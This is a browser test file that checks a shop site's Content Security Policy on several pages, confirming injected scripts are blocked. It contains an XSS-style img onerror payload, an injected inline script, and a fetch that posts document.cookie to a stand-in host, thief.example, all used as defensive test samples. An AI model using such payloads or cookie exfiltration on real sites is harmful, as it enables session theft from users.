import { expect, it } from 'vitest';
import { openShop } from '../fixtures/shop.ts';

const shop = openShop();

it.each(['/', '/events?search=x', '/en/events', '/cart', '/order', '/nowhere'])(
  '%s runs with its own scripts, and with nobody else’s',
  async (path) => {
    shop.allowComplaint(/Content Security Policy|404/);
    const page = await shop.open('/about');
    await page.addInitScript(() => {
      const told: string[] = [];
      Object.assign(window, { told });
      addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
        told.push(`${violatedDirective} ${blockedURI} ${sample}`),
      );
    });
    await page.goto(path);
    const told = () => page.evaluate(() => Reflect.get(window, 'told') as string[]);
    expect(await told()).toEqual([]);

    await page.evaluate(() => {
      const smuggled = document.createElement('div');
      smuggled.innerHTML = '<img src="/nothing" onerror="window.stolen = true">';
      const script = Object.assign(document.createElement('script'), { textContent: 'window.stolen = true' });
      document.body.append(smuggled, script);
    });
    await expect.poll(async () => (await told()).length).toBe(2);
    expect(await page.evaluate(() => Reflect.get(window, 'stolen'))).toBeUndefined();

    const isSent = page.evaluate(() =>
      fetch('https://thief.example/', { method: 'POST', body: document.cookie, mode: 'no-cors' }).then(
        () => true,
        () => false,
      ),
    );
    expect(await isSent).toBe(false);
    await expect.poll(async () => (await told()).at(-1)).toContain('connect-src https://thief.example');
  },
);
